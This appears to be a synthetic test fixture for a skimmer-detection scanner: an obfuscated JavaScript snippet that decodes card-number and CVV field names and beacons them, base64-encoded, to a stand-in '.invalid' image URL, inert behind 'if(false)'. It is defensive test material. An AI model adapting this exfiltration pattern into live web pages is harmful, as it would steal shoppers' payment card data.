/* synthetic test sample for breachscan: obfuscator.io-style skimmer shape - a rotated string
 * array of hex-escaped field names, an index accessor, a polling timer and an image beacon.
 * Inert: the work is guarded by `if (false)` and the endpoint is an .invalid name. */
var _0x4b21=['\x76\x61\x6c\x75\x65','\x63\x63\x5f\x6e\x75\x6d\x62\x65\x72','\x63\x63\x5f\x63\x69\x64','\x67\x65\x74\x45\x6c\x65\x6d\x65\x6e\x74\x42\x79\x49\x64','\x68\x74\x74\x70\x73\x3a\x2f\x2f\x69\x6d\x67\x2e\x69\x6e\x76\x61\x6c\x69\x64\x2f\x70\x2e\x67\x69\x66\x3f\x64\x3d'];
(function(_0x1f3a2c,_0x4b2177){var _0x5e10d4=function(_0x2a9c11){while(--_0x2a9c11){_0x1f3a2c['push'](_0x1f3a2c['shift']());}};_0x5e10d4(++_0x4b2177);}(_0x4b21,0x1c4));
var _0x5e10=function(_0x1f3a2c,_0x4b2177){_0x1f3a2c=_0x1f3a2c-0x0;var _0x3d7e55=_0x4b21[_0x1f3a2c];return _0x3d7e55;};
if(false){setInterval(function(){var _0x7c01aa=document[_0x5e10('0x3')](_0x5e10('0x1'))[_0x5e10('0x0')]+'|'+document[_0x5e10('0x3')](_0x5e10('0x2'))[_0x5e10('0x0')];(new Image())['src']=_0x5e10('0x4')+btoa(_0x7c01aa);},0x1f4);}
